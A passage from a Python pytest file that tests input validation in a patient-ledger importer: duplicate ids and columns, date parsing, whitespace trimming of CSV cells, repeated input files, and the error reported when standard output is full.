            ["payment_id", "patient_id", "amount", "received_on", "Amount "],
            "'amount' and 'Amount '",
        ),
        (["payment_id", "patient_id", "amount", "received_on", "id"], "'payment_id' and 'id'"),
    ):
        payments = pd.DataFrame([["T1", "P1", "5.00", "2025-03-02", "T2"]], columns=columns)
        error = quick(lambda p=payments: frames.from_frames(pd.DataFrame(VISITS), payments=p))
        assert said in str(error)


@pytest.mark.parametrize(
    ("table", "frame", "said"),
    [
        (
            "payments",
            {"payment_id": ["T1", "T1"], "patient_id": ["P1", "P1"], "amount": ["5.00", "5.00"],
             "received_on": ["2025-03-02", "2025-03-02"]},
            "payments rows 0 and 1 both have payment_id 'T1'",
        ),
        (
            "charges",
            {"charge_id": ["C1", "C2", "C1"], "appointment_id": ["A1"] * 3, "amount": ["5.00"] * 3},
            "charges rows 0 and 2 both have charge_id 'C1'",
        ),
        (
            "visits",
            {"id": ["A1", "A1"], "patient_id": ["P1", "P1"], "date": ["2025-03-01"] * 2},
            "visits rows 0 and 1 both have id 'A1'",
        ),
    ],
)  # fmt: skip
def test_from_frames_refuses_an_id_on_two_rows(
    table: str, frame: dict[str, list[str]], said: str
) -> None:
    """Two identical payment rows gave one payment and no error."""
    from patient_ledger.adapters import frames

    tables_ = {"visits": pd.DataFrame(VISITS), table: pd.DataFrame(frame)}
    error = quick(lambda: frames.from_frames(**tables_))
    assert isinstance(error, pl.DuplicateIdError)
    assert said in str(error)


@pytest.mark.parametrize("day", ["20250302", "2025-W09-1", "2025-061", "2025-03-02T00:00"])
def test_from_frames_reads_string_dates_as_the_csv_importer_does(day: str) -> None:
    from patient_ledger.adapters import frames

    payments = pd.DataFrame(
        {"payment_id": ["T1"], "patient_id": ["P1"], "amount": ["5.00"], "received_on": [day]}
    )
    error = quick(lambda: frames.from_frames(pd.DataFrame(VISITS), payments=payments))
    assert isinstance(error, InvalidInputError)
    assert f"payments row 0, column 'received_on': {day!r} is not a date" in str(error)


# -- 7, 8. the CSV importer: only ASCII spaces trimmed; a file given once ------------------------


@pytest.mark.parametrize(
    ("cell", "code_point"), [("\t=1", 0x9), ("\u00a0X1", 0xA0), ("X1\u3000", 0x3000)]
)
def test_a_csv_id_cell_is_trimmed_of_ascii_spaces_only(
    cell: str, code_point: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """'\\t=1' became the id '=1': a tab or a no-break space was trimmed silently."""
    source = tmp_path / "a.csv"
    source.write_text(CSV_HEAD + f'"{cell}",P1,1.00,2025-04-01,CASH,PAYMENT,\n', encoding="utf-8")
    target = tmp_path / "j.jsonl"
    assert main(["import-payments", str(source), "--journal", str(target)]) == 1
    err = capsys.readouterr().err
    assert "line 2:" in err
    assert f"U+{code_point:04X}" in err
    source.write_text(CSV_HEAD + "  X1 , P1 ,1.00,2025-04-01,CASH,PAYMENT,\n", encoding="utf-8")
    assert main(["import-payments", str(source), "--journal", str(target)]) == 0
    assert payment_ids(target) == {"X1"}


def test_the_same_csv_given_twice_is_refused_naming_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """It was named 'p1.csv line 2 and p1.csv line 2'."""
    source = tmp_path / "p1.csv"
    source.write_text(rows("T", 1), encoding="utf-8")
    alias = tmp_path / "same.csv"
    alias.symlink_to(source)
    target = tmp_path / "j.jsonl"
    for given in ([source, source], [source, alias]):
        files = {"payments": [str(p) for p in given]}
        error = quick(lambda f=files: imports.import_files(pl.Ledger.empty(), f))
        assert isinstance(error, InvalidInputError)
        assert f"{given[1]} is given twice in one import" in str(error)
        assert str(source) in str(error)
    argv = [
        "import",
        "--payments",
        str(source),
        "--payments",
        str(source),
        "--journal",
        str(target),
    ]
    assert main(argv) == 1
    assert f"{source} is given twice" in capsys.readouterr().err
    assert not target.exists()


# -- 9. standard output that cannot be written ------------------------------------------------


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full")
def test_a_full_standard_output_is_named(tmp_path: Path) -> None:
    """'cannot read or write : No space left on device' named nothing."""
    target = tmp_path / "j.jsonl"
    command = [sys.executable, "-m", "patient_ledger", "import-drchrono", str(DRCHRONO_V4)]
    with Path("/dev/full").open("w") as full:
        done = subprocess.run(
            [*command, "--journal", str(target)],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            env=cli_env(),
            check=False,
        )
    assert done.returncode == 3
    assert done.stderr == "cannot write to standard output: No space left on device\n"
